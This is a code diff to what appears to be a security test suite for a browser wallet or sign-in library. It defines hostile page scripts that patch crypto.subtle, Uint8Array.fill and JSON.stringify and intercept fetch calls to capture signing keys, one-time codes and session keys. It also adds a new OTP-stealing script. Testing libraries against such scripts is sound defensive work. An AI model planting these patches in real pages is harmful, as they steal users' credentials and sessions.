@@ -17,12 +17,14 @@ export interface Gets {
    * With the policy: after another operation has used up the user's proof, and when the proof is older than `maxAge`.
    */
   readonly later: readonly [spent: Gain, aged: Gain] | undefined
+  /** With `keyDelivery: 'client-held'`, against the library alone. */
+  readonly held: readonly [before: Gain, after: Gain]
 }
 
 export interface HostileScript {
   readonly tries: string
   /** Runs when the script enters the page: before the page's modules, or a second after the sign-in. */
-  readonly install?: () => void
+  readonly install?: () => void | Promise<void>
   readonly harvest: () => Loot | Promise<Loot>
   /**
    * `batch`: together with other scripts. `proof`: the same, after a separate sign-in, because the script uses up the
@@ -34,16 +36,22 @@ export interface HostileScript {
   readonly gets: Gets
 }
 
-const always = (gain: Gain): Gets => ({ before: [gain, gain], after: [gain, gain], later: [gain, gain] })
+const always = (gain: Gain, held = gain): Gets => ({
+  before: [gain, gain],
+  after: [gain, gain],
+  later: [gain, gain],
+  held: [held, held],
+})
 /** The gain if the policy does not allow the operation: nothing with the policy. */
 const unlessPolicy = (gain: Gain): Gets => ({
   before: [gain, 'nothing'],
   after: [gain, 'nothing'],
   later: ['nothing', 'nothing'],
+  held: [gain, gain],
 })
 /** The gain if the policy demands a proof. The user's sign-in a second ago is a proof. */
 const withProof = (gain: Gain): Gets => ({ ...always(gain), later: ['nothing', 'nothing'] })
-const once = (gain: Gain): Gets => ({ ...always(gain), later: undefined })
+const once = (gain: Gain, held = gain): Gets => ({ ...always(gain, held), later: undefined })
 
 export const hostileScripts: readonly HostileScript[] = [
   {
@@ -72,7 +80,11 @@ export const hostileScripts: readonly HostileScript[] = [
     gets: always('session'),
     async harvest() {
       const { id } = await attack.session()
-      const { body } = await attack.signed('POST', `/auth/sessions/${id}/refresh`, await attack.help('key'))
+      const { body } = await attack.signed(
+        'POST',
+        `/auth/sessions/${id}/refresh`,
+        await attack.help('session-key'),
+      )
       return { sealed: String(body['encryptedSessionSigningKey']) }
     },
   },
@@ -194,7 +206,7 @@ export const hostileScripts: readonly HostileScript[] = [
     stage: 'batch',
     gets: always('nothing'),
     async harvest() {
-      const body = await attack.help('key')
+      const body = await attack.help('session-key')
       const path = `/auth/sessions/${harness.wallet.signer?.sessionId}/refresh`
       const { body: challenge } = await attack.call('POST', path, body)
       const headers = {
@@ -263,7 +275,7 @@ export const hostileScripts: readonly HostileScript[] = [
   {
     tries: 'patches `crypto.subtle.importKey`, and reads the next key that arrives',
     stage: 'batch',
-    gets: always('signing key'),
+    gets: always('signing key', 'nothing'),
     install() {
       const original = crypto.subtle.importKey
       attack.caught['importKey'] = []
@@ -287,7 +299,7 @@ export const hostileScripts: readonly HostileScript[] = [
   {
     tries: 'patches `Uint8Array.prototype.fill`, and reads what is wiped',
     stage: 'batch',
-    gets: always('signing key'),
+    gets: always('signing key', 'nothing'),
     install() {
       const original = Uint8Array.prototype.fill
       attack.caught['fill'] = []
@@ -305,7 +317,7 @@ export const hostileScripts: readonly HostileScript[] = [
     },
   },
   {
-    tries: 'patches `crypto.subtle.generateKey` so that client keys can be exported',
+    tries: 'patches `crypto.subtle.generateKey` so that the keys that it makes can be exported',
     stage: 'batch',
     gets: always('signing key'),
     install() {
@@ -313,14 +325,14 @@ export const hostileScripts: readonly HostileScript[] = [
       attack.caught['generateKey'] = []
       crypto.subtle.generateKey = async function (this: SubtleCrypto, ...args: never[]) {
         const [algorithm, extractable, usages] = args as unknown as [EcKeyGenParams, boolean, KeyUsage[]]
-        if (algorithm.name !== 'ECDH') return Reflect.apply(original, this, args)
-        const open = await Reflect.apply(original, this, [algorithm, true, usages])
-        const pair = open as CryptoKeyPair
-        const jwk = await crypto.subtle.exportKey('jwk', pair.privateKey)
+        if (!('namedCurve' in algorithm)) return Reflect.apply(original, this, args)
+        const open = (await Reflect.apply(original, this, [algorithm, true, usages])) as CryptoKeyPair
+        const jwk = await crypto.subtle.exportKey('jwk', open.privateKey)
         attack.caught['generateKey']?.push(JSON.stringify({ d: jwk.d, x: jwk.x, y: jwk.y }))
         // The library may check the key, so it gets a key that cannot be exported.
-        const privateKey = await crypto.subtle.importKey('jwk', jwk, algorithm, extractable, usages)
-        return { privateKey, publicKey: pair.publicKey }
+        const { usages: own } = open.privateKey
+        const privateKey = await crypto.subtle.importKey('jwk', jwk, algorithm, extractable, own)
+        return { privateKey, publicKey: open.publicKey }
       } as typeof crypto.subtle.generateKey
       attack.onFetch(async (request) => {
         if (!/\/(verify|refresh)$/.test(request.url)) return undefined
@@ -364,7 +376,7 @@ export const hostileScripts: readonly HostileScript[] = [
     stage: 'batch',
     gets: always('nothing'),
     async harvest() {
-      const body = JSON.stringify(await attack.help('key'))
+      const body = JSON.stringify(await attack.help('session-key'))
       let sealed = ''
       let isOn = true
       attack.onFetch(async (request) => {
@@ -612,19 +624,52 @@ export const hostileScripts: readonly HostileScript[] = [
   {
     tries: 'takes the code that the person enters, before the library sends it',
     stage: 'signIn',
-    gets: once('session'),
+    gets: once('session', 'nothing'),
     install() {
       let isOn = true
       attack.onFetch(async (request) => {
         if (!isOn || !request.url.endsWith('/verify')) return undefined
         isOn = false
-        const asked = { ...(await request.json()), ...(await attack.help('key')) }
+        const asked = { ...(await request.json()), ...(await attack.help('session-key')) }
         const answer = await attack.call('POST', new URL(request.url).pathname.replace('/wallet', ''), asked)
         attack.caught['code'] = [String(answer.body['encryptedSessionSigningKey'])]
         return new Response(null, { status: 502 })
       })
     },
     harvest: () => ({ sealed: attack.caught['code']?.[0] ?? '' }),
+  },
+  {
+    tries: 'patches `JSON.stringify`, and takes the code as the library packs it',
+    stage: 'signIn',
+    gets: once('session'),
+    async install() {
+      const { pending } = (await attack.record()) as { pending: { credential: string; otpBundle?: string } }
+      attack.caught['attempt'] = [pending.credential, pending.otpBundle ?? '']
+      const { stringify } = JSON
+      JSON.stringify = (value: Record<string, string> | undefined, ...rest: never[]) => {
+        const code = value?.['otp_code'] ?? value?.['otp']
+        if (code === undefined) return stringify(value, ...rest)
+        attack.caught['otp'] = [code]
+        JSON.stringify = stringify
+        throw new Error('The library must not use the code.')
+      }
+    },
+    async harvest() {
+      const [otp = ''] = attack.caught['otp'] ?? []
+      const [credential = '', bundle = ''] = attack.caught['attempt'] ?? []
+      const asked =
+        bundle === ''
+          ? { otp, ...(await attack.help('session-key')) }
+          : await attack.help('code-bundle', { otp, bundle })
+      const path = `/auth/credentials/${credential}/verify`
+      const body = { type: 'EMAIL_OTP', ...asked }
+      const { status, body: answer } = await attack.call('POST', path, body)
+      if (status !== 202) return { sealed: String(answer['encryptedSessionSigningKey']) }
+      const { stamp = '' } = await attack.help('stamp', { text: String(answer['payloadToSign']) })
+      const headers = { 'Service-Wallet-Signature': stamp, 'Request-Id': String(answer['requestId']) }
+      await attack.call('POST', path, body, headers)
+      return {}
+    },
   },
   {
     tries: 'plants a client key of its own beside the awaited code',
@@ -678,7 +723,7 @@ export const hostileScripts: readonly HostileScript[] = [
       const kept = await attack.session()
       await harness.wallet.signOut()
       const path = `/auth/sessions/${kept.id}/refresh`
-      const { body } = await attack.signed('POST', path, await attack.help('key'), kept)
+      const { body } = await attack.signed('POST', path, await attack.help('session-key'), kept)
       return { sealed: String(body['encryptedSessionSigningKey'] ?? '') }
     },
   },
